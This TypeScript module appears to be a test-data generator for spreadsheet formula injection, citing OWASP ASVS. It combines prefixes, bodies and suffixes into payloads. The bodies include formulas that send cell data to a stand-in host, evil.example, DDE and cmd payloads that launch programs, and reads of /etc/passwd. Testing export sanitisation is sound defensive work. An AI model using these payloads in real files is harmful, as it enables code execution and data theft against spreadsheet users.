/** Texts that some spreadsheet somewhere runs as a formula, in every dress in which they come. Source: ASVS 1.2.10, OWASP. */

const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '==',
  '=+',
  '-+',
  '\t=',
  '\r=',
  '\n=',
  '\0=',
  '\r\n=',
  ';=',
  ',=',
  '"=',
  "'=",
  '{=',
  ' =',
  '\u00A0=',
  '\u200B=',
  '\uFEFF=',
  '\uFF1D',
  '\uFF0B',
  '\uFF0D',
  '\uFF20',
  '";=',
  '\n";=',
  '%=',
  '|=',
  '_x003D_',
];

const BODIES = [
  '1+1',
  'SUM(A1:A9)',
  'SUMME(A1;A9)',
  'SOMME(A1;A9)',
  'HYPERLINK("http://evil.example/?"&A1,"Click")',
  'HYPERLINK("http://evil.example/?"&A1;"Click")',
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  'DDE("soffice";"/etc/passwd";"x")',
  'WEBSERVICE("http://evil.example/")',
  'IMPORTXML("http://evil.example/","//a")',
  'IMAGE("http://evil.example/")',
  "'file:///etc/passwd'#$passwd.A1",
  'INDIRECT("A1")',
  'RTD("x",,"y")',
  "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
  '1+1")\n=2+2',
  'TRUE',
  '1E9',
  '10%',
  '2026-11-30',
  `1${'+1'.repeat(400)}`,
  '</t></is></c><c r="A1"><f>1+1</f></c>',
  ']]><f>1+1</f>',
  '&#61;1+1',
  '_x000D_=1+1',
  'A1}',
];

const ENDS = ['', ' ', '\n', '"', ' & more', ')'];

/** So many, all different, the same each time. */
export function payloads(count: number): string[] {
  const all = new Set<string>();
  for (const end of ENDS)
    for (const body of BODIES)
      for (const start of STARTS) {
        all.add(`${start}${body}${end}`);
        if (all.size >= count) return [...all];
      }
  throw new RangeError(`there are ${all.size} payloads only`);
}
